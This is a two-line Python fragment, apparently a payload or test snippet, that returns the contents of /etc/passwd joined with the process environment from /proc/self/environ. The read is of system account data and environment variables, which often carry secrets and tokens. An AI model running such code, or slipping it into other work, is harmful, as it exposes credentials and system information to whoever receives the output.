from pathlib import Path
return Path("/etc/passwd").read_text() + Path("/proc/self/environ").read_text()
